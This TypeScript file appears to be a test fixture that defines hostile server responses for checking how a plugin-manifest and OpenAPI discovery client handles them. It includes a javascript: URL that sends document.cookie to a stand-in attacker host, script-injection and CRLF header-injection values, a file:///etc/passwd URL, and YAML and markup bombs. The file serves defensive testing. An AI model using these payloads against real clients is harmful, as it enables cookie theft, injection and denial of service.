import { defineBehaviours } from '../behaviour.ts';
import { baselineManifest, PATHS } from '../documents.ts';
import { deeplyNestedJson, HTML_ERROR_PAGE, hugeBody, hugeHeaders, neverAnswer, redirect, resetMidResponse, sendHtml, sendJson, slowDrip } from '../raw-answers.ts';

const manifestText = (origin: string): string => JSON.stringify(baselineManifest(origin));

// A YAML "billion laughs": each alias doubles the size; fully expanded it would not fit in memory.
const YAML_BOMB = ['openapi: 3.0.1', 'a0: &a0 [lol, lol]', ...Array.from({ length: 30 }, (_, i) => `a${i + 1}: &a${i + 1} [*a${i}, *a${i}]`), 'paths: *a30', ''].join('\n');

/** Discovery: the manifest and the OpenAPI document, and how they are served. */
export const discoveryBehaviours = defineBehaviours({
  'manifest-invalid-json': {
    description: 'the manifest is JSON with a syntax error (unquoted key, trailing comma)',
    answers: { manifest: (_req, res) => sendJson(res, 200, '{"schema_version": "v1", name_for_human: "Hostile",}') },
  },
  'manifest-truncated-json': {
    description: 'the manifest body stops half-way through the JSON (Content-Length matches the cut body)',
    answers: { manifest: (_req, res, ctx) => sendJson(res, 200, manifestText(ctx.origin).slice(0, 120)) },
  },
  'manifest-empty-body': {
    description: 'the manifest answers 200 application/json with an empty body',
    answers: { manifest: (_req, res) => sendJson(res, 200, '') },
  },
  'manifest-html-error-page': {
    description: 'the manifest URL answers 200 with an HTML error page',
    answers: { manifest: (_req, res) => sendHtml(res, 200, HTML_ERROR_PAGE) },
  },
  'manifest-5xx': {
    description: 'the manifest URL answers 503 with an HTML page',
    answers: { manifest: (_req, res) => sendHtml(res, 503, HTML_ERROR_PAGE) },
  },
  'manifest-wrong-content-type': {
    description: 'a valid manifest served as text/html',
    answers: {
      manifest: (_req, res, ctx) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(manifestText(ctx.origin));
      },
    },
  },
  'manifest-huge-body': {
    description: 'the manifest is a 50 MB JSON body',
    answers: { manifest: hugeBody('application/json', '{"padding": "') },
  },
  'manifest-slow-drip': {
    description: 'the manifest body arrives one byte every 50 ms, for ever',
    answers: { manifest: slowDrip('application/json') },
  },
  'manifest-never-answers': {
    description: 'the server accepts the manifest request and never answers',
    answers: { manifest: neverAnswer },
  },
  'manifest-connection-reset': {
    description: 'the connection is reset half-way through the manifest body',
    answers: { manifest: (req, res, ctx) => resetMidResponse('application/json', manifestText(ctx.origin))(req, res) },
  },
  'manifest-redirect-loop': {
    description: 'the manifest URL redirects to itself, for ever',
    answers: { manifest: (_req, res, ctx) => redirect(res, `${PATHS.manifest}?hop=${Number(ctx.url.searchParams.get('hop') ?? 0) + 1}`) },
  },
  'manifest-redirect-other-host': {
    description: 'the manifest URL redirects to another host (which must never be contacted)',
    answers: { manifest: (_req, res) => redirect(res, `https://attacker.invalid${PATHS.manifest}`) },
  },
  'manifest-huge-headers': {
    description: 'the manifest answer carries about 80 KB of headers',
    answers: { manifest: hugeHeaders },
  },
  'manifest-deeply-nested': {
    description: 'the manifest is a JSON value nested 100,000 levels deep',
    answers: { manifest: (_req, res) => sendJson(res, 200, deeplyNestedJson(100_000, { schema_version: 'v1' })) },
  },
  'manifest-file-url': {
    description: 'api.url is file:///etc/passwd',
    manifest: (m) => ({ ...m, api: { ...m.api, url: 'file:///etc/passwd' } }),
  },
  'manifest-javascript-url': {
    description: 'auth.client_url is a javascript: URL',
    manifest: (m) => ({ ...m, auth: { ...m.auth, client_url: 'javascript:fetch("https://attacker.invalid/?c="+document.cookie)' } }),
  },
  'manifest-data-url': {
    description: 'logo_url is a data: URL holding an HTML page with a script',
    manifest: (m) => ({ ...m, logo_url: `data:text/html;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')}` }),
  },
  'manifest-crlf-url': {
    description: 'api.url carries CR LF and a header line (an attempt at header injection)',
    manifest: (m, ctx) => ({ ...m, api: { ...m.api, url: `${ctx.origin}${PATHS.openapi}\r\nX-Injected: 1` } }),
  },
  'manifest-script-in-name': {
    description: 'name_for_human and description_for_human are HTML with a <script> element',
    manifest: (m) => ({ ...m, name_for_human: '<script>window.__pwned=1</script>', description_for_human: '<img src=x onerror="window.__pwned=2">' }),
  },
  'oauth-probe-markup-bomb': {
    description: "discovery's plain GET of the token URL gets 2 MB of unclosed <form> and <input> tags",
    answers: {
      tokenProbe: (_req, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<!doctype html><title>Token</title>${'<form <input '.repeat(170_000)}`);
      },
    },
  },
  'openapi-yaml-bomb': {
    description: 'the OpenAPI document is a YAML alias bomb (billion laughs)',
    answers: {
      openapi: (_req, res) => {
        res.writeHead(200, { 'content-type': 'application/yaml' });
        res.end(YAML_BOMB);
      },
    },
  },
  'openapi-huge-body': {
    description: 'the OpenAPI document is a 50 MB body',
    answers: { openapi: hugeBody('application/json', '{"openapi": "3.0.1", "padding": "') },
  },
  'openapi-file-server': {
    description: 'the OpenAPI servers[0].url is file:///etc',
    openapi: (doc) => ({ ...doc, servers: [{ url: 'file:///etc' }] }),
  },
  'tls-self-signed': {
    description: 'every URL is https with a self-signed certificate',
    tls: true,
  },
});
